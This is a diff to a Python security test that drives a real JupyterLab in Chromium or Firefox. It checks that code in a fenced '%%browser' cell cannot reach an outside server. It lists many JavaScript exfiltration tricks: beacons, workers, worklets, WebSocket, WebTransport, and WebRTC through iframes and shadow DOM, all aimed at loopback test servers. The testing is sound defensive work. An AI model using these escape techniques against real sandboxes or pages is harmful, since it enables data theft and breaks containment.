@@ -1,30 +1,41 @@
 r"""Ways out of a `%%browser` cell to a server that belongs to no lab. No request may arrive.
 
-    python tests/attacks/cell_exfil.py [part of a way's name]
+    python tests/attacks/cell_exfil.py chromium|firefox [part of a way's name]
 
-In a real JupyterLab in a real Chromium. Exits 1 where a request or a UDP packet arrived, a foreign
+In a real JupyterLab in a real browser. Exits 1 where a request or a UDP packet arrived, a foreign
 page or an impostor wrote under the cell, or the notebook's page was left. (A TCP connection on
 which nothing is sent is allowed: browsers open one before they ask whether they may navigate.)
+
+Each way is also tried in a plain frame without a fence. Where it leads nowhere there either, this
+is said: that the fence held then proves nothing, for this browser.
 """
 
 from __future__ import annotations
 
+import argparse
 import contextlib
+import html
 import json
 import socket
 import sys
 import tempfile
 import threading
 import time
+from collections.abc import Iterator
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import ClassVar
 
+from playwright.sync_api import Browser, Error, Page, Playwright, sync_playwright
+
 TREE = Path(__file__).resolve().parents[2]
 sys.path[:0] = [str(TREE), str(TREE / "tools")]
-from real_lab import running_browser, running_lab  # noqa: E402
+from real_lab import launch_chromium, launch_firefox, running_lab  # noqa: E402
 
-from wslab.installed import CHROMIUM, find  # noqa: E402
+from wslab.installed import CHROMIUM, FIREFOX, find  # noqa: E402
+
+LOOPBACK = {"media.peerconnection.ice.loopback": True}
+"""Of Firefox: WebRTC may talk to this machine, as it may to any other."""
 
 SPEAKS = (
     "for (const w of [parent, parent.parent, top]) { const c = new MessageChannel(); "
@@ -48,9 +59,26 @@ class Strange(BaseHTTPRequestHandler):
         self.send_header("Access-Control-Allow-Origin", "*")
         self.send_header("Content-Type", "text/html")
         self.end_headers()
-        self.wfile.write(f"<script>{SPEAKS}</script>".encode())
+        with contextlib.suppress(ConnectionError):  # it only asked
+            self.wfile.write(f"<script>{SPEAKS}</script>".encode())
 
     do_POST = do_HEAD = do_OPTIONS = do_GET
+
+    def log_message(self, *_: object) -> None:
+        """Say nothing."""
+
+
+class Plain(BaseHTTPRequestHandler):
+    """A page that holds what is tried in a frame, without a fence."""
+
+    page: ClassVar[bytes] = b""
+
+    def do_GET(self) -> None:
+        self.send_response(200)
+        self.send_header("Content-Type", "text/html; charset=utf-8")
+        self.end_headers()
+        if self.path == "/":
+            self.wfile.write(self.page)
 
     def log_message(self, *_: object) -> None:
         """Say nothing."""
@@ -88,8 +116,10 @@ def ways(web: str, stun: str) -> dict[str, str]:
         "beacon": f"navigator.sendBeacon('{web}/beacon', 'x')",
         "import": f"import('{web}/import').catch(() => 0)",
         "worker": f"new Worker(URL.createObjectURL(new Blob([`fetch('{web}/worker')`])))",
-        "shared worker": f"new SharedWorker('{web}/shared')",
-        "worklet": f"CSS.paintWorklet.addModule('{web}/worklet')",
+        "shared worker": "new SharedWorker(URL.createObjectURL(new Blob(["
+        f"`fetch('{web}/shared')`])))",
+        "worklet": "(CSS.paintWorklet ?? new AudioContext().audioWorklet)"
+        f".addModule('{web}/worklet')",
         "img": f"new Image().src = '{web}/img'",
         "video": element("video", src=f"{web}/video", poster=f"{web}/poster"),
         "object": element("object", data=f"{web}/object"),
@@ -119,11 +149,13 @@ def ways(web: str, stun: str) -> dict[str, str]:
         "ws to localhost": f"new WebSocket('ws://localhost:{port}/ws')",
         "ws to 0": f"new WebSocket('ws://0:{port}/ws')",
         "ws as another user": f"new WebSocket('ws://x:y@127.0.0.1:{port}/ws')",
-        "webtransport": f"new WebTransport('https://127.0.0.1:{port}/').ready.catch(() => 0)",
+        "webtransport": f"new WebTransport('https://{stun}/').ready.catch(() => 0)",
         "webrtc": webrtc,
         "webrtc in a frame": within(webrtc) + append,
         "webrtc in a fresh frame": "let e = document.createElement('iframe'); "
         f"{append} let RTCPeerConnection = e.contentWindow.RTCPeerConnection; {webrtc}",
+        "webrtc in a frame by its number": "document.body.innerHTML = '<iframe></iframe>'; "
+        f"let RTCPeerConnection = window[0].RTCPeerConnection; {webrtc}",
         "webrtc in a shadow": f"{in_shadow} {within(webrtc)}"
         "d.attachShadow({ mode: 'closed' }).append(e)",
         "webrtc in html": f"<p>x</p>{frame}",
@@ -148,25 +180,84 @@ def ways(web: str, stun: str) -> dict[str, str]:
     }
 
 
-def main(wanted: str) -> int:
-    server = ThreadingHTTPServer(("127.0.0.1", 0), Strange)
+@contextlib.contextmanager
+def serving(handler: type[BaseHTTPRequestHandler]) -> Iterator[str]:
+    """Serve with it on loopback; gives the address."""
+    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
     threading.Thread(target=server.serve_forever, daemon=True).start()
-    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    udp.bind(("127.0.0.1", 0))
-    udp.setblocking(False)
-    tried = {
-        name: code
-        for name, code in ways(
-            f"http://127.0.0.1:{server.server_port}", f"127.0.0.1:{udp.getsockname()[1]}"
-        ).items()
-        if wanted in name
-    }
+    yield f"http://127.0.0.1:{server.server_port}"
+    server.shutdown()
+    server.server_close()
+
+
+@contextlib.contextmanager
+def ways_to(web: str) -> Iterator[tuple[dict[str, str], socket.socket]]:
+    """The ways, and a new socket for those of UDP: QUIC goes on repeating to an older one."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
+        udp.bind(("127.0.0.1", 0))
+        udp.setblocking(False)
+        yield ways(web, f"127.0.0.1:{udp.getsockname()[1]}"), udp
+
+
+def arrived(udp: socket.socket) -> list[str]:
+    """What has reached the strange server since the last call."""
+    found = [f"request for {path}" for path in Strange.arrived]
+    Strange.arrived.clear()
+    with contextlib.suppress(BlockingIOError):
+        while udp.recv(2000):
+            found = [*found, "UDP"][:4]
+    return found
+
+
+def heard(page: Page) -> int:
+    """How many messages the plain page has got."""
+    try:
+        return int(page.evaluate("window.heard ?? 0"))
+    except Error:  # it is being loaded, or left
+        return 0
+
+
+def start(browser_name: str, playwright: Playwright) -> Browser:
+    """Start that browser; the caller closes it."""
+    if browser_name == "firefox":
+        return launch_firefox(playwright, str(find(FIREFOX)), LOOPBACK)
+    return launch_chromium(playwright, str(find(CHROMIUM)))
+
+
+def leads_out(browser: Browser, plain: str, web: str, name: str) -> bool:
+    """Whether that way leads out of a frame without a fence."""
+    with ways_to(web) as (tried, udp):
+        code = tried[name]
+        body = code if code.startswith("<") else f"<script>{{{code}}}</script>"
+        body = f"<body><script>url = 'ws://127.0.0.1:1/'</script>{body}"
+        Plain.page = (
+            "<script>heard = 0; onmessage = () => { heard++ }</script>"
+            f'<iframe srcdoc="{html.escape(body)}"></iframe>'
+        ).encode()
+        page = browser.new_page()
+        page.goto(plain, wait_until="commit")
+        deadline = time.monotonic() + WAIT
+        found = False
+        while not found and time.monotonic() < deadline:
+            time.sleep(0.05)
+            found = bool(arrived(udp) or heard(page))
+        page.close()
+    return found
+
+
+def main(browser_name: str, wanted: str) -> int:
     out = 0
     with (
+        serving(Strange) as web,
+        serving(Plain) as plain,
+        ways_to(web) as (everything, udp),
         tempfile.TemporaryDirectory() as folder,
-        running_browser(str(find(CHROMIUM))) as browser,
+        sync_playwright() as playwright,
+        start(browser_name, playwright) as browser,
         running_lab(Path(folder)) as lab,
     ):
+        tried = {name: code for name, code in everything.items() if wanted in name}
+        real = {name for name in tried if leads_out(browser, plain, web, name)}
         opens = "from wslab.labs import first_connection\nlab = first_connection.open()"
         lab.write_notebook("ways.ipynb", opens, *(f"%%browser\n{code}" for code in tried.values()))
         notebook = lab.open(browser, "ways.ipynb")
@@ -174,22 +265,22 @@ def main(wanted: str) -> int:
         for number, name in enumerate(tried):
             notebook.run_cell(number + 1)
             time.sleep(WAIT)
-            found = [f"request for {path}" for path in Strange.arrived]
-            Strange.arrived.clear()
-            with contextlib.suppress(BlockingIOError):
-                while udp.recv(2000):
-                    found = [*found, "UDP"][:4]
+            found = arrived(udp)
             if "FOREIGN" in notebook.view("browser-cell").nth(number).inner_text():
                 found.append("strange words under the cell")
             if not notebook.page.url.startswith(lab.url):
                 found.append(f"the page went to {notebook.page.url}")
             out += bool(found)
-            print(f"{'OUT ' if found else 'held'}  {name}  {', '.join(found)}".rstrip())
+            told = found or ([] if name in real else ["leads nowhere without the fence either"])
+            print(f"{'OUT ' if found else 'held'}  {name}  {', '.join(told)}".rstrip(), flush=True)
         notebook.close()
-    server.shutdown()
-    print(f"{len(tried)} ways, {out} led out")
+    print(f"{browser_name}: {len(tried)} ways, {len(real)} of them real, {out} led out")
     return int(out > 0)
 
 
 if __name__ == "__main__":
-    sys.exit(main(sys.argv[1] if len(sys.argv) > 1 else ""))
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument("browser", choices=["chromium", "firefox"])
+    parser.add_argument("wanted", nargs="?", default="", help="part of a way's name")
+    options = parser.parse_args()
+    sys.exit(main(options.browser, options.wanted))
